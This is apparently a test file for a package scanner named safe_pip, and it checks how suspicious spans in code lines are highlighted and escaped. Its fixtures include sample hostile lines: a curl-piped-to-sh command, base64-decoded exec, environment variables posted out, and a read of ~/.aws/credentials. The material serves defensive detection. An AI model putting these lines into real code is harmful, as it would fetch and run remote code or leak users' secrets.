"""Telling parts: what is marked in a line of code, and that marking breaks nothing."""

from __future__ import annotations

import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.cells import cell_len
from rich.console import Console

from safe_pip.escaping import escaped
from safe_pip.evidence import Evidence, Location
from safe_pip.extractors import SCHEMA
from safe_pip.policy.telling import MAX_LINE_CHARS, marked_line, telling_spans
from safe_pip.terminal.code_line import CodeLine


def evidence(feature: str, detail: str = "") -> Evidence:
    return Evidence(feature=feature, location=Location(path="a.py", line=1), detail=detail)


@pytest.mark.parametrize(
    ("feature", "line", "telling"),
    [
        ("dyn_exec_unasked", "x = 1; exec(data)", ["exec"]),
        ("dyn_exec", "retriever.evaluate(x)", []),
        ("chain_decode_exec", "exec(base64.b64decode(s))", ["exec", "base64.b64decode"]),
        ("proc_spawn", "p = subprocess.Popen(['sh'])", ["subprocess.Popen"]),
        ("proc_spawn", "os . system('x')", ["system"]),
        ("chain_env_net", "post(u, json=dict(os.environ))", ["post", "os.environ"]),
        ("secret_read", "open('~/.aws/credentials')", ["~/.aws/credentials"]),
        ("url_callback_host", "x = 'https://a.example/b?c' + y", ["https://a.example/b?c"]),
        ("host_info", "name = socket.gethostname()", ["socket.gethostname"]),
        ("encoded_len", "x = 'aW1wb3J0IG9zO29zLnN5c3Rl'", ["aW1wb3J0IG9zO29zLnN5c3Rl"]),
        ("offscreen_code", f"x = 1;{' ' * 90}run(y)", ["run(y)"]),
        ("invisible_chars", "is_admin\u200b = True", ["\u200b"]),
        ("lolbin_strings", "x = 'curl http://h/a | sh'", ["curl http://h/a | sh"]),
        ("pip_in_code", "[sys.executable, '-m', 'pip', 'install']", ["pip', 'install"]),
        ("n_files", "exec(data)", []),
        ("dyn_exec", "", []),
    ],
)
def test_what_a_feature_is_about_is_marked(feature: str, line: str, telling: list[str]) -> None:
    spans = telling_spans(line, [evidence(feature)])
    assert [line[span.start : span.end] for span in spans] == telling


def test_a_host_that_our_words_name_is_marked() -> None:
    detail = "hooks.example.com is a chat service's mailbox for programs"
    line = "send('hooks.example.com', data)"
    (span,) = telling_spans(line, [evidence("some_feature", detail)])
    assert line[span.start : span.end] == "hooks.example.com"


def test_a_line_that_is_telling_as_a_whole_is_not_marked() -> None:
    assert telling_spans("  https://a.example/b ", [evidence("url_drop_host")]) == ()


def test_marks_stay_where_they_belong_when_text_is_escaped() -> None:
    line = marked_line("a\x1b = exec(\u202e)", [evidence("dyn_exec")])
    assert line.text == "a\\x1b = exec(\\u202e)"
    assert [part for part, is_telling in line.parts if is_telling] == ["exec"]


lines = st.text(
    st.one_of(st.characters(), st.sampled_from("exec(open.http://\t  '~/.ssh")), max_size=600
)
found = st.lists(
    st.builds(evidence, st.sampled_from(SCHEMA.names), st.text(max_size=60)), max_size=4
)


@given(line=lines, evidence=found)
def test_marks_are_disjoint_and_in_order_for_any_line(line: str, evidence: list[Evidence]) -> None:
    end = 0
    for span in telling_spans(line, evidence):
        assert end <= span.start < span.end <= min(len(line), MAX_LINE_CHARS)
        end = span.end


@given(line=lines, evidence=found)
def test_a_marked_line_is_the_escaped_line(line: str, evidence: list[Evidence]) -> None:
    marked = marked_line(line, evidence)
    assert marked.text == escaped(line)
    assert "".join(part for part, _ in marked.parts) == marked.text


@given(line=lines, evidence=found, width=st.integers(8, 120), is_whole=st.booleans())
def test_a_line_of_code_never_exceeds_its_room(
    line: str, evidence: list[Evidence], width: int, is_whole: bool
) -> None:
    console = Console(file=io.StringIO(), width=width, highlight=False, markup=False, emoji=False)
    console.print(CodeLine(marked_line(line, evidence), is_whole=is_whole))
    assert isinstance(console.file, io.StringIO)
    for row in console.file.getvalue().split("\n"):
        assert cell_len(row) <= width


def shown(line: str, *, columns: int, has_styles: bool = False) -> str:
    console = Console(
        file=io.StringIO(),
        width=columns,
        color_system="standard" if has_styles else None,
        force_terminal=has_styles,
    )
    console.print(CodeLine(marked_line(line, [evidence("dyn_exec")]), is_whole=False))
    assert isinstance(console.file, io.StringIO)
    return console.file.getvalue()


def test_a_telling_part_far_to_the_right_is_brought_into_view() -> None:
    assert shown(f"{'x = 1; ' * 20}exec(data)", columns=30) == (
        "  …x = 1; exec(data)\n          ^^^^\n"
    )


def test_where_there_are_styles_no_carets_are_needed() -> None:
    styled = shown("x = exec(data)", columns=30, has_styles=True)
    assert "\x1b[1;4mexec\x1b[0m" in styled
    assert "^" not in styled
